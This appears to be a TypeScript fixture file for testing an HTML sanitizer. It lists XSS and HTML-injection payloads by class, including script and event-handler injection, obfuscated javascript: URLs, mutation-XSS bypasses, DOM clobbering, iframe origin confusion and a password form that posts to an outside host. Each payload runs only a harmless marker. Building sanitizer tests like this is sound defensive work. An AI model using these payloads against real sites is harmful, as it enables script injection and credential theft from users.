/** What every attack tries to run: it leaves a trace on the page. */
export const CALL = 'window.__ran=1';

/** One or more bodies per class of attack; each says "còn chữ" where its words must stay. */
export const attacks: Record<string, readonly string[]> = {
  script: [
    `<script>${CALL}</script>còn chữ`,
    `<scr<script>ipt>${CALL}</scr</script>ipt><p>còn chữ`,
    `<p>còn chữ<script type=module src=data:text/javascript,${CALL}></script>`,
    `<script type="speculationrules">{"prefetch":[{"urls":["/x"]}]}</script>còn chữ`,
  ],
  event: [
    `<img src=x:y onerror="${CALL}">còn chữ`,
    `<p onclick=${CALL} OnPointerEnter=${CALL} onbeforematch=${CALL} hidden=until-found>còn chữ</p>`,
    `<details open ontoggle=${CALL}><summary>còn</summary>chữ còn chữ</details>`,
    `<video onloadstart=${CALL} src=/a.mp4></video><audio oncanplay=${CALL} src=/a.mp3></audio>còn chữ`,
  ],
  'js-url': [
    `<a href="javascript:${CALL}">còn chữ</a>`,
    `<a href=" java\tscript:${CALL}">còn chữ</a>`,
    `<a href="&#1;javascript&#58;${CALL}">còn chữ</a>`,
    `<a href="javascript&amp;#58;${CALL}">còn chữ</a>`,
    `<a href="vbscript:x">còn chữ</a><a href="data:text/html,<script>${CALL}</script>">còn chữ</a>`,
    `<a href="blob:https://portal.example/1">còn</a> <a href="filesystem:https://x/">chữ</a> còn chữ`,
    `<blockquote cite="javascript:${CALL}">còn chữ</blockquote>`,
  ],
  'link-target': [
    `<a href="https://xa.example" target=_blank rel=opener ping="https://theo-doi.example">còn chữ</a>`,
    `<a href="//xa.example" download=a.exe attributionsrc>còn chữ</a>`,
    `<a href="https://ubnd:pass@xa.example/">còn chữ</a>`,
  ],
  mxss: [
    `<svg><style><img src onerror=${CALL}></style></svg>còn chữ`,
    `<p>còn chữ</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=${CALL}&gt;">`,
    `<svg><desc><b><p></p><style><a title="</style><img src onerror=${CALL}>"></a></style></b></desc></svg>còn chữ`,
    `<p>còn chữ</p><form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${CALL} src=1>">`,
    `${'<div>'.repeat(600)}<svg><title><img src onerror=${CALL}></title></svg>còn chữ`,
  ],
  'raw-text': [
    `<noscript><p title="</noscript><img src onerror=${CALL}>"></p></noscript>còn chữ`,
    `<xmp><img src onerror=${CALL}></xmp>còn chữ`,
    `<noembed><img src onerror=${CALL}></noembed><noframes><img src onerror=${CALL}></noframes>còn chữ`,
    `<textarea></textarea><img src onerror=${CALL}><select><template><img src onerror=${CALL}></template></select>còn chữ`,
    `còn chữ<plaintext><img src onerror=${CALL}>`,
  ],
  'markup-decl': [
    `<!--><img src onerror=${CALL}>-->còn chữ`,
    `<![CDATA[<img src onerror=${CALL}>]]>còn chữ`,
    `<?xml version="1.0"?><?php ${CALL} ?>còn chữ`,
    `<p><![endif]-->còn chữ &lt;img src onerror=${CALL}&gt;</p>`,
  ],
  'dom-clobber': [
    `<img name=body src=/a.png><img id=getElementById src=/b.png><a id=cookie name=cookie>còn chữ</a>`,
    `<form name=forms><input name=attributes><input name=childNodes></form>còn chữ`,
    `<a id=x></a><a id=x name=y href="clobber:1">còn chữ</a>`,
  ],
  'custom-element': [
    `<tin-article-view src="https://xa.example/a.json">còn chữ</tin-article-view>`,
    `<button is=x-button>còn chữ</button><p is=x-p slot=title part=x exportparts=a>còn chữ</p>`,
    `<div><template shadowrootmode=open><slot></slot><script>${CALL}</script></template>còn chữ</div>`,
    `<slot name=tools>còn chữ</slot>`,
  ],
  css: [
    `<style>*{display:none}</style>còn chữ`,
    `<link rel=stylesheet href=https://xa.example/a.css>còn chữ`,
    `<p style="background:url(https://xa.example/a.png);color:red">còn chữ</p>`,
    `<p style="--tin-color:url(//xa.example);content:var(--x)" class="modal navbar-fixed-top">còn chữ</p>`,
    `<table background=https://xa.example/a.png><tr><td background=//xa.example/b.png>còn chữ</table>`,
  ],
  'css-overlay': [
    `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">còn chữ</div>`,
    `<p style="margin-left:-9999px;transform:scale(99);opacity:0;font-size:0;width:99999px">còn chữ</p>`,
    `<font size=7><font size=+7><big><big>còn chữ</big></big></font></font>`,
  ],
  frame: [
    `<iframe srcdoc="<script>parent.${CALL}</script>" src="javascript:${CALL}"></iframe>còn chữ`,
    `<iframe src="https://xa.example/www.youtube.com/embed/x" name=top allow=camera></iframe>còn chữ`,
    `<iframe src="https://www.youtube.com@xa.example/embed/x"></iframe><iframe src="https://www.youtube.com.xa.example/embed/x"></iframe>còn chữ`,
    `<iframe src="https://www.youtube.com/redirect?q=https://xa.example"></iframe><iframe src="https://www.youtube.com/embed/../redirect"></iframe>còn chữ`,
    `<frameset><frame src=https://xa.example></frameset><portal src=https://xa.example></portal>còn chữ`,
  ],
  plugin: [
    `<object data="data:text/html,<script>${CALL}</script>"><param name=x value=y>còn chữ</object>`,
    `<embed src="javascript:${CALL}">còn chữ`,
    `<applet code=x>còn chữ</applet>`,
  ],
  form: [
    `<form action=https://xa.example><input type=password name=p autofocus><button formaction=//xa.example>còn chữ</button></form>`,
    `<dialog open>còn chữ</dialog><div popover id=p>còn chữ</div><button popovertarget=p command=show-popover>x</button>`,
    `<p contenteditable accesskey=x tabindex=9>còn chữ</p><label for=q>còn chữ</label><isindex prompt=x>`,
  ],
  'meta-base-link': [
    `<base href=https://xa.example/><meta http-equiv=refresh content="0;url=https://xa.example">còn chữ`,
    `<script type=importmap>{"imports":{}}</script><link rel=preload href=https://xa.example/a>còn chữ`,
  ],
  'a11y-spoofing': [
    `<div role=alert aria-live=assertive>còn chữ</div><div role=dialog aria-modal=true>còn chữ</div>`,
    `<p aria-hidden=true>còn chữ</p><main>còn chữ</main><p aria-label="khác">còn chữ</p>`,
  ],
  media: [
    `<img src="data:text/html,<script>${CALL}</script>"><img src="data:image/svg+xml,<svg onload=${CALL}>">còn chữ`,
    `<img srcset="javascript:${CALL} 1x, https://anh.example/a.png 2x, data:text/html,x 3x" src=/a.png>còn chữ`,
    `<video autoplay poster="javascript:${CALL}"><source src="javascript:${CALL}" onerror=${CALL}><track src="data:text/vtt,x"></video>còn chữ`,
    `<picture><source srcset="//xa.example/x.png" onerror=${CALL}><img src=/a.png></picture>còn chữ`,
    `<img src=/a.png usemap=#m lowsrc="javascript:${CALL}"><map name=m><area href="javascript:${CALL}"></map>còn chữ`,
  ],
};
